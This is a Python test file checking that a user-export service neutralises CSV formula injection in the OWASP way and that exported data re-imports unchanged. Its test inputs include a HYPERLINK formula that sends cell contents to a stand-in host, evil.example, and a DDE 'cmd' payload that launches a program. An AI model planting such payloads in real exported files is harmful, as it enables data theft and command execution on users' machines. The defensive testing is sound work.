"""CSV formula injection (issue 9 item 6): an exported cell a spreadsheet would run as a
formula is neutralised the OWASP way (a leading apostrophe), and our own import reads
it back unchanged.

Nothing is opened in a spreadsheet: the tests check the rule for every dangerous first
character, as text, and the round trip through the administration service.
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tapemaster_qt.services import Actor, Context
from tapemaster_qt.services.admin import AdminService
from tapemaster_qt.services.transfer import (
    FORMULA_PREFIXES,
    csv_rows,
    neutralise_cell,
    restore_cell,
    users_to_csv,
)
from tapemaster_qt.store import open_store
from unit.support import PASSWORD

# OWASP "CSV Injection": = + - @, TAB (0x09) and CR (0x0D) start a formula in Excel,
# LibreOffice Calc or Google Sheets.
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=1+1",
)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_rule_covers_exactly_owasps_characters() -> None:
    assert set(FORMULA_PREFIXES) == set(DANGEROUS)


@pytest.mark.parametrize("prefix", DANGEROUS, ids=repr)
def test_every_dangerous_first_character_is_neutralised(prefix: str) -> None:
    value = prefix + "cmd|' /C calc'!A0"
    cell = neutralise_cell(value)
    assert cell == "'" + value  # a spreadsheet shows it as text
    assert cell[0] not in DANGEROUS
    assert restore_cell(cell) == value


@pytest.mark.parametrize("value", ["", "Alice", "7", "True", "O'Brien", "a=b", "x-1",
                                   "TapeMaster,Lite", "'plain quoted'"])
def test_harmless_cells_are_left_alone(value: str) -> None:
    assert neutralise_cell(value) == value
    assert restore_cell(value) == value


@pytest.mark.parametrize("value", ["'=1+1", "''=1+1", "'@x", "'-", "'''+"])
def test_a_cell_that_already_looks_neutralised_survives_the_round_trip(value: str) -> None:
    """A real name like ``'=1+1`` must not lose its apostrophe on the way back."""
    assert restore_cell(neutralise_cell(value)) == value
    assert neutralise_cell(value)[0] not in DANGEROUS


@given(st.text(max_size=40))
def test_any_text_round_trips(value: str) -> None:
    cell = neutralise_cell(value)
    assert restore_cell(cell) == value
    assert cell[:1] not in DANGEROUS


def test_no_exported_cell_starts_a_formula(ctx: Context, admin: AdminService) -> None:
    for n, name in enumerate(HOSTILE_NAMES):
        admin.add_user({"user_id": f"user{n}", "name": name, "description": name,
                        "email": f"=x{n}@evil.example"}, PASSWORD)
    text = users_to_csv(admin.export_users())
    cells = [cell for row in _cells(text) for cell in row]
    assert len(cells) > 5 * len(HOSTILE_NAMES)
    assert [c for c in cells if c[:1] in DANGEROUS] == []
    for name in HOSTILE_NAMES:
        assert "'" + name in cells


def test_our_own_export_imports_unchanged(ctx: Context, admin: AdminService, tmp_path,
                                          hasher, clock) -> None:
    for n, name in enumerate(HOSTILE_NAMES):
        admin.add_user({"user_id": f"user{n}", "name": name, "description": "'" + name,
                        "email": f"+u{n}@example.com"}, PASSWORD)
    exported = users_to_csv(admin.export_users())
    with open_store(tmp_path / "other") as other_store:
        other = AdminService(Context(other_store, clock=clock, hasher=hasher),
                             Actor.for_cli())
        other.import_users(list(csv_rows(exported)))
        for n, name in enumerate(HOSTILE_NAMES):
            user = other.get_user(f"user{n}")
            assert (user.name, user.description, user.email) == (
                name, "'" + name, f"+u{n}@example.com")
        assert users_to_csv(other.export_users()) == exported
